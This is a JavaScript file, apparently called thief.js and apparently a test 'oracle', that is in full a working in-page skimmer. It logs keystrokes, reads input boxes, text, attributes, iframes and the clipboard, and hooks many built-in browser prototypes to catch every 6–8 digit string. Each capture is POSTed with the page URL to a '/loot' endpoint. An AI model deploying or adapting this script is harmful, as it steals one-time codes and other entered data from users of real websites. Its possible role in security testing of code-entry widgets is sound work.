// @ts-nocheck: it lives in a page whose own objects it replaces.
// The oracle: sends home every 6 to 8 digits a page can get hold of, out of boxes, events, changes of the document,
// clipboards, messages, and out of the page's own prototypes, which it has tampered with. What of it is a code of
// ours, the server decides.
(() => {
  const home = document.currentScript.src.replace('/thief.js', '/loot');
  const { fetch } = globalThis;
  const readValue = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').get;
  const apply = Reflect.apply;
  const match = String.prototype.match;
  const { stringify } = JSON;
  const sent = new Set();
  let keys = '';
  let busy = false;

  function take(source, thing) {
    if (busy || thing === null || thing === undefined || typeof thing === 'function') return;
    busy = true;
    try {
      const text = typeof thing === 'object' ? stringify(thing) : String(thing);
      for (const value of apply(match, text.replace(/[\s\u2009-]/g, ''), [
        /(?<![0-9])[0-9]{6,8}(?![0-9])/g,
      ]) ?? []) {
        if (sent.has(source + value)) continue;
        sent.add(source + value);
        const body = stringify({ where: location.href, source, value });
        apply(fetch, globalThis, [home, { method: 'POST', mode: 'no-cors', keepalive: true, body }]);
      }
    } catch {
      // What cannot be read is not stolen.
    } finally {
      busy = false;
    }
  }

  function search(root) {
    let digits = '';
    for (const element of root.querySelectorAll('*')) {
      if (element instanceof HTMLInputElement || element instanceof HTMLTextAreaElement) {
        const text = element instanceof HTMLInputElement ? apply(readValue, element, []) : element.value;
        take(`box ${element.id}`, text);
        digits += text.length === 1 ? text : ' . ';
        continue;
      }
      for (const name of element.getAttributeNames()) take('attribute', element.getAttribute(name));
      for (const node of element.childNodes) if (node.nodeType === 3) take('text', node.nodeValue);
      if (element.shadowRoot) search(element.shadowRoot);
      try {
        if (element.contentDocument) search(element.contentDocument);
      } catch {
        // Another origin.
      }
    }
    take('boxes', digits);
  }
  let lastLook = 0;
  const look = () => {
    if (performance.now() - lastLook < 10) return; // the next turn of the clock comes soon enough
    search(document);
    lastLook = performance.now();
  };

  const KINDS =
    'input beforeinput change keydown keypress keyup paste copy cut focus blur focusin focusout compositionend select selectionchange submit formdata message storage';
  for (const kind of KINDS.split(' '))
    addEventListener(
      kind,
      (event) => {
        if (event.key?.length === 1) keys += event.key;
        take(`keys of ${kind}`, keys);
        take(`data of ${kind}`, event.data);
        take(`clipboard of ${kind}`, event.clipboardData?.getData('text/plain'));
        for (const target of event.composedPath()) take(`target of ${kind}`, target.value);
        look();
      },
      true,
    );
  new MutationObserver((records) => {
    for (const { target, addedNodes, attributeName } of records) {
      if (attributeName) take('changed attribute', target.getAttribute(attributeName));
      for (const node of addedNodes) take('added', node.textContent);
    }
  }).observe(document, { childList: true, subtree: true, attributes: true, characterData: true });
  setInterval(look, 40);
  setInterval(
    () =>
      navigator.clipboard?.readText?.().then(
        (text) => take('clipboard', text),
        () => {},
      ),
    1000,
  );

  const spy = (owner, names) => {
    for (const name of names.split(' ')) {
      const original = owner[name];
      owner[name] = function (...given) {
        for (const one of given) if (typeof one !== 'object') take(`given to ${name}`, one);
        const came = apply(original, this, given);
        if (typeof came === 'string') take(`came from ${name}`, came);
        return came;
      };
    }
  };
  globalThis.tamper = () => {
    for (const type of [HTMLInputElement, HTMLTextAreaElement]) {
      const { get, set } = Object.getOwnPropertyDescriptor(type.prototype, 'value');
      Object.defineProperty(type.prototype, 'value', {
        configurable: true,
        get() {
          const text = apply(get, this, []);
          take('value read', text);
          return text;
        },
        set(text) {
          take('value written', text);
          apply(set, this, [text]);
        },
      });
    }
    spy(Array.prototype, 'map join push every some find includes');
    spy(String.prototype, 'replace padStart split at');
    spy(JSON, 'parse stringify');
    spy(EventTarget.prototype, 'dispatchEvent addEventListener');
    spy(DataTransfer.prototype, 'setData getData');
    spy(Node.prototype, 'appendChild insertBefore cloneNode');
    spy(Element.prototype, 'setAttribute append attachShadow getAttribute checkVisibility matches');
    spy(HTMLElement.prototype, 'focus click');
    spy(Function.prototype, 'call');
    spy(globalThis, 'postMessage setTimeout requestAnimationFrame getComputedStyle');
    spy(customElements, 'define');
    for (const name of ['code', 'value', 'name', 'failure'])
      Object.defineProperty(Object.prototype, name, {
        __proto__: null, // or the trap would spring on its own description
        configurable: true,
        get: () => undefined,
        set(thing) {
          take(`Object.prototype.${name}`, thing);
          Object.defineProperty(this, name, {
            __proto__: null,
            value: thing,
            writable: true,
            configurable: true,
            enumerable: true,
          });
        },
      });
  };
})();
